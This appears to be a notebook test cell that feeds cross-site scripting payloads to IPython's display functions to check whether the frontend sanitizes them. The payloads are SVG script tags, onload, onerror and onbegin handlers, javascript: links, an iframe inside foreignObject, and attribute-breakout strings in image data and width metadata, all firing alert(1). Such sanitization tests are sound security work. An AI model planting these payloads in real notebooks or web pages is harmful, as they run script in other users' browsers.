# Pictures that are programs: SVG with scripts, links and foreign objects; pictures whose data end their own tag.
# base: right
# says: tried
# %% square-write
from IPython.display import SVG, display

XMLNS = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
display(SVG(f"<svg {XMLNS} onload='alert(1)'><script>alert(1)</script></svg>"))
for inside in (
    "<a xlink:href='javascript:alert(1)'><text y='9'>x</text></a>",
    "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>",
    "<use xlink:href='data:image/svg+xml;base64,AAAA#x'/><image href='x' onerror='alert(1)'/>",
    "<animate onbegin='alert(1)' attributeName='x' dur='1s'/><set attributeName='href' to='javascript:alert(1)'/>",
):
    display({"image/svg+xml": f"<svg {XMLNS}>{inside}</svg>"}, raw=True)
for kind in ("image/png", "image/jpeg", "image/gif", "application/pdf"):
    display({kind: 'AAAA" onerror="alert(1)'}, metadata={kind: {"width": '1" onload="alert(1)', "height": "<b>"}}, raw=True)
print("tried")
